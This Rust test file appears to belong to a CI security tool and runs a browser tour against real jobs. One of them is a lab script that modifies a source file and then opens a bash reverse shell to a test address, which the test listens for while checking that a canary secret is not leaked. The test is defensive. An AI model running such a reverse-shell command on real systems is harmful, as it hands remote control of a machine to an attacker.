//! The tour of docs/tour.md in a browser, with jobs that really run: hooks, monitor, served store, pages.
//!
//! `scripts/tour` runs this with `PORTCULLIS_TOUR_PICTURES`, the directory in which the pictures are kept.

use anyhow::{Context, Result, bail, ensure};
use portcullis_tests::gate::step;
use portcullis_tests::policy_server::{PolicyServer, URL, for_server};
use portcullis_tests::server::id_tokens::IdTokens;
use portcullis_tests::world::{MonitorOptions, RunningJob};
use portcullis_tests::{Canary, Job, World};
use serde_json::{Value, json};
use std::fmt::Write as _;
use std::fs;
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::thread;

/// How the tests of the store install the scripts; it is not part of a library.
#[path = "../../store/tests/server/support/browser.rs"]
#[expect(
    clippy::unwrap_used,
    unreachable_pub,
    reason = "written for tests of the store, which fail by panicking"
)]
mod browser;

/// What the job of the lab does: it overwrites a source file, waits for `GO`, and opens a shell for somebody.
const LAB: &str = r#"
git clone -q https://git.test/zlib.git tree && cd tree
sleep 0.3
python3 -c 'f=open("crc32.c","a"); f.write("/* changed */\n"); f.close(); import time; time.sleep(0.5)'
until [ -e "$GO" ]; do sleep 0.1; done
(bash -i >& /dev/tcp/198.51.100.200/4445 0>&1) & sleep 10; echo went-on
"#;

/// A program in the `PATH` of this test.
fn program(name: &str) -> Result<PathBuf> {
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path)
        .map(|directory| directory.join(name))
        .find(|candidate| candidate.is_file())
        .with_context(|| {
            format!("{name} is needed; scripts/test installs it (scripts/test-packages.txt)")
        })
}

fn build(run: u64, tokens: &IdTokens, canary: &Canary) -> Result<Job> {
    let file = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/jobs/main.yml"));
    let mut job = Job::from_file(file)?.secret("DEPLOY_TOKEN", canary.as_str());
    // One runner, several jobs: each begins as on a fresh checkout.
    job.steps.insert(0, step("clean", "find . -mindepth 1 -delete"));
    Ok(for_server(job, run, tokens))
}

#[test]
fn a_new_user_s_tour_with_jobs_that_really_run() -> Result<()> {
    let installed = browser::installed(Path::new(env!("CARGO_TARGET_TMPDIR")));
    let world = World::builder().main_job().build()?;
    // The world has a /tmp of its own, and a checkout may lie in the machine's.
    let place = world.directory().join("browser");
    let copied = Command::new("cp").arg("--recursive").args([&installed, &place]).status()?;
    ensure!(copied.success(), "{} can't be copied", installed.display());
    let tokens = IdTokens::serve(world.web(), URL)?;
    let mut store = PolicyServer::prepare(&world, "")?;
    store.start()?;
    store.enrol(&world)?;
    world.install_hooks()?;
    let monitor = world.monitor(MonitorOptions::default())?;
    let canary = Canary::generate()?;
    let peer = world.internet().run(|| TcpListener::bind("0.0.0.0:4445"))??;
    thread::spawn(move || drop(peer.incoming().collect::<Vec<_>>()));
    let go = world.runner(0).directory().join("_work/go");

    let home = tempfile::tempdir()?;
    let log = fs::File::create(home.path().join("log"))?;
    let mut command = world
        .internet_command_with_names(program("node")?)
        .arg("tour.mjs")
        .args([URL, &store.token()?])
        .directory(&place)
        .env("HOME", home.path())
        // A server with a certificate of the world's own.
        .env("NODE_TLS_REJECT_UNAUTHORIZED", "0")
        .env("NODE_NO_WARNINGS", "1");
    for name in ["PORTCULLIS_CHROMIUM", "PORTCULLIS_TEST_PATIENCE_SECONDS"] {
        if let Some(value) = std::env::var_os(name) {
            command = command.env(name, value);
        }
    }
    if let Some(pictures) = std::env::var_os("PORTCULLIS_TOUR_PICTURES") {
        command = command.arg(pictures);
    }
    let mut tour = command.spawn(Stdio::piped(), Stdio::piped(), log)?;
    let mut answers = tour.child().stdin.take().context("no standard input")?;
    let output = BufReader::new(tour.child().stdout.take().context("no standard output")?);
    let mut told = String::new();
    let mut running: Option<(u64, RunningJob<'_>)> = None;
    for line in output.lines() {
        let line = line?;
        let Some(request) = line.strip_prefix("ask ") else {
            told += &line;
            told.push('\n');
            continue;
        };
        let request: Value = serde_json::from_str(request)?;
        let answer = if let Some(kind) = request["begin"].as_str() {
            let run = request["run"].as_u64().context("no run")?;
            let job = if kind == "build" {
                build(run, &tokens, &canary)?
            } else {
                let mut job = Job::script(LAB).repository("octo/lab");
                job.context.run_id = run;
                job.env("GO", &go.display().to_string())
            };
            running = Some((run, world.runner(0).begin(&job)?));
            json!({})
        } else if request["go"] == true {
            fs::write(&go, "")?;
            json!({})
        } else if request["end"] == true {
            let (run, job) = running.take().context("no job runs")?;
            let result = job.wait()?;
            monitor.wait_until_idle()?;
            let ids = world.job_ids()?;
            let id = ids.last().context("no job was recorded")?;
            store.ended_job(run, world.events(id)?.len())?;
            writeln!(told, "run {run}: {:?}", result.outcome)?;
            json!({ "id": id, "outcome": result.outcome })
        } else {
            bail!("the tour asks for {request}");
        };
        writeln!(answers, "{answer}")?;
    }
    let status = tour.wait()?;
    let shown = format!(
        "{told}{}\n{}\n{}",
        fs::read_to_string(home.path().join("log"))?,
        monitor.log(),
        store.log()
    );
    ensure!(status.success() && told.contains("all is well"), "{shown}");
    world.attacker().assert_untouched(&canary)?;
    Ok(())
}
